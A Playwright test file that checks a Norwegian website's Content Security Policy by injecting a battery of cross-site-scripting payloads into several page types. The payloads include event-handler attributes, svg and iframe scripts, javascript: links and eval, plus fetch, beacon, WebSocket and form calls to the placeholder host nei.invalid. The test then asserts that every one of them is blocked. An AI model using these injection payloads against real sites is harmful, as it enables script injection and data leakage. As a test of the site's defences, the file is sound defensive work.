"""The policy of the pages, tried from the inside: what has come into a page can neither run nor call out."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser

pytestmark = pytest.mark.nettleser

KINDS = [
    "/",
    "/eksempler/lorenskog/",
    "/lov/lovkrav/",
    "/metoder/dreiebok/",
    "/sok/",
    "/verktoy/sjekkliste/",
    "/verktoy/nettverksundersokelse/",
    "/finnes-ikke/",
]
"""One page of each kind, the page for what isn't found too."""

# Each leaves a mark on window if it runs. The host is of a kind that no one can own.
_TRIES = """async () => {
  window.ran = [];
  const told = [];
  document.addEventListener('securitypolicyviolation', (e) => told.push(e.effectiveDirective));
  const put = (html) => { const d = document.createElement('div'); d.innerHTML = html; document.body.append(d); return d; };
  const script = (set) => { const s = document.createElement('script'); set(s); document.body.append(s); };
  script((s) => { s.textContent = "window.ran.push('inline')"; });
  script((s) => { s.src = 'https://nei.invalid/x.js'; });
  script((s) => { s.src = "data:text/javascript,window.ran.push('data')"; });
  script((s) => { s.type = 'module'; s.textContent = "window.ran.push('modul')"; });
  put("<img src='/finnes-ikke.png' onerror=\\"window.ran.push('onerror')\\">");
  put("<svg><script>window.ran.push('svg')</scr" + "ipt></svg>");
  put("<svg><animate onbegin=\\"window.ran.push('onbegin')\\" attributeName=x dur=1s></animate></svg>");
  put("<details open ontoggle=\\"window.ran.push('ontoggle')\\">x</details>");
  put("<a href=\\"javascript:window.ran.push('lenke')\\">x</a>").firstChild.click();
  put("<button onclick=\\"window.ran.push('onclick')\\">x</button>").firstChild.click();
  put("<iframe srcdoc=\\"<script>parent.ran.push('srcdoc')</scr" + "ipt>\\"></iframe>");
  put("<iframe src='https://nei.invalid/'></iframe>");
  put("<object data='https://nei.invalid/x'></object><embed src='https://nei.invalid/y'>");
  put("<img src='https://nei.invalid/sporing.png'>");
  put("<style>body{outline:9px solid red}</style>");
  put("<link rel=stylesheet href='https://nei.invalid/x.css'>");
  put("<form action='https://nei.invalid/'><button>x</button></form>").querySelector('button').click();
  put("<base href='https://nei.invalid/'>");
  await new Promise((done) => setTimeout(() => {  // on a turn of its own: what a test evaluates may itself use eval
    try { eval("window.ran.push('eval')"); } catch { }
    try { new Function("window.ran.push('Function')")(); } catch { }
    done();
  }));
  try { setTimeout("window.ran.push('setTimeout')", 0); } catch { }
  try { await fetch('https://nei.invalid/'); window.ran.push('fetch'); } catch { }
  try { navigator.sendBeacon('https://nei.invalid/', 'x'); } catch { }
  try { new WebSocket('wss://nei.invalid/'); } catch { }
  try { new EventSource('https://nei.invalid/'); } catch { }
  try { new Worker("data:text/javascript,postMessage(1)").onmessage = () => window.ran.push('arbeider'); } catch { }
  await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
  // The browser tells of a refused connection on a turn of its own, later on a loaded machine.
  for (let turns = 0; turns < 200 && !told.includes('connect-src'); turns += 1) await new Promise((done) => setTimeout(done, 20));
  return {ran: window.ran, outline: getComputedStyle(document.body).outlineWidth, base: new URL('x', document.baseURI).host,
          told: [...new Set(told)].sort()};
}"""


@pytest.mark.parametrize("address", KINDS)
def test_nothing_runs_and_nothing_is_sent(nettleser: Browser, nettsted: str, address: str) -> None:
    context = nettleser.new_context()
    try:
        page = context.new_page()
        sent: list[str] = []
        page.on("request", lambda request: sent.append(request.url))
        page.goto(nettsted.rstrip("/") + address)
        found = page.evaluate(_TRIES)
        assert found["ran"] == []
        assert found["outline"] != "9px", "a style of one's own was let through"
        assert found["base"] in nettsted
        assert {"script-src-elem", "script-src-attr", "style-src-elem", "connect-src", "img-src"} <= set(found["told"])
        assert page.url.startswith(nettsted), "the form went nowhere"
        # Chromium tells of a request before the policy stops it; none of them has got an answer or a connection.
        assert not [
            url for url in sent if not url.startswith((nettsted, "data:", "blob:", "about:")) and "nei" not in url
        ]
    finally:
        context.close()
